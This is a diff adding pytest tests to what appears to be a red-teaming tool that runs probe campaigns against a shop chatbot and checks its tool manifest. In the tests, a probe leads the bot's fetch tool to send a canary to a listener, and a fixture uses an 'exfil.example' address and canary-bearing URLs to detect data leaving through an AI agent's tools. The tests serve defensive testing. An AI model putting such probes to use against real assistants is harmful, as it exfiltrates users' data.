@@ -12,6 +12,7 @@ import shutil
 import time
 from pathlib import Path
 
+import jsonschema
 import pytest
 
 from demarcate.analysis.responsibility import Responsibilities
@@ -122,6 +123,61 @@ def test_a_case_slower_than_the_timeout_is_its_own_error_and_resume_runs_it_agai
     monkeypatch.delenv("STAND_IN_SLOW")
     again = run_campaign(load([SHOPBOT]), target="ignored", resume=first["run"], db=str(tmp_path / "h.sqlite"))
     assert len(again["results"]) == 2 and {r["outcome"] for r in again["results"]} == {"resisted"}
+
+
+def test_a_tool_that_reached_a_host_its_destinations_do_not_name_reopens_its_paths(tmp_path, cli):
+    # The manifest says the lab's fetch tool reaches only the shop's docs site; the lab fetches any
+    # URL. Forced to run the probes the manifest rules out, the campaign catches the tool sending the
+    # canary to the listener, and check with its evidence leaves the manifest's word out.
+    manifest = tmp_path / "bot"
+    shutil.copytree(SHOPBOT, manifest)
+    app = manifest / "app-team.yaml"
+    app.write_text(app.read_text(encoding="utf-8").replace(
+        "  - id: fetch-url\n", "  - id: fetch-url\n    destinations: [docs.shop.example]\n", 1), encoding="utf-8")
+    before = json.loads(cli("check", manifest, "--format", "json").stdout)
+    assert not [p for p in before["paths"] if p["steps"][-2:] == ["fetch-url", "egress"]]
+    db = str(tmp_path / "h.sqlite")
+    data = run_campaign(load([manifest]), target="lab", probes="doc-fetch-ping", db=db, force=True)
+    (case,) = data["results"]
+    assert case["outcome"] == "succeeded"
+    (said,) = case["contradicts"]
+    assert said["component"] == "fetch-url" and said["attribute"] == "destinations"
+    assert said["said"] == ["docs.shop.example"] and "fetch_url ran with this case's canary" in said["evidence"]
+    assert "reached the listener" in said["evidence"]
+    assert data["summary"]["contradicted"]["fetch-url"]["destinations"]["said"] == ["docs.shop.example"]
+    after = json.loads(cli("check", manifest, "--evidence", "last", "--db", db, "--format", "json").stdout)
+    assert [p["id"] for p in after["paths"] if p["open"] and p["steps"][-2:] == ["fetch-url", "egress"]]
+    assert after["evidence"]["contradicted"]["fetch-url"]["destinations"]["why"].startswith(f"run {data['run']}, case ")
+    jsonschema.validate(after, json.loads((Path(__file__).parents[2] / "docs/schemas/check-v1.json").read_text()))
+    finding = next(f for f in after["findings"] if f["id"] == "manifest-contradicted:fetch-url:destinations")
+    assert finding["severity"] == "high" and finding["responsible"] == ["app-team"]
+    assert "sends only to docs.shop.example" in finding["explanation"]
+    # A run whose tools kept to what the manifest says contradicts nothing.
+    plain = run_campaign(load([SHOPBOT]), target="lab", probes="doc-fetch-ping", db=db)
+    assert "contradicts" not in plain["results"][0] and plain["summary"]["contradicted"] == {}
+
+
+def test_a_canary_that_left_with_another_tool_as_well_contradicts_no_destinations(tmp_path):
+    # Two calls carried the canary, one to a tool said to reach only the docs site and one to a tool
+    # the manifest does not know: either could have sent it, so nothing shows the manifest wrong.
+    manifest = tmp_path / "bot"
+    shutil.copytree(SHOPBOT, manifest)
+    app = manifest / "app-team.yaml"
+    app.write_text(app.read_text(encoding="utf-8").replace(
+        "  - id: fetch-url\n", "  - id: fetch-url\n    destinations: [docs.shop.example]\n", 1), encoding="utf-8")
+    system = load([manifest])
+    canary = "dmc0123456789abcd"
+    (case,) = select("doc-fetch-ping")
+    hit = [{"method": "GET", "path": f"/c/{canary}", "query": "", "body": ""}]
+
+    def judged(*names: str):
+        calls = [{"name": n, "arguments": {"url": f"http://127.0.0.1:9/c/{canary}"}, "status": "ok"} for n in names]
+        reply = Reply(status=200, text="Done.", tool_calls=calls, session="s")
+        return attribute(case, canary, f"{canary}@exfil.example", Evidence(reply, Records(), hit, []),
+                         Responsibilities(system), None, None)
+
+    assert [c.component for c in judged("fetch_url").contradicts] == ["fetch-url"]
+    assert judged("fetch_url", "http_get").contradicts == []
 
 
 def test_a_claim_a_campaign_refuted_reopens_its_paths_in_check(tmp_path, cli):
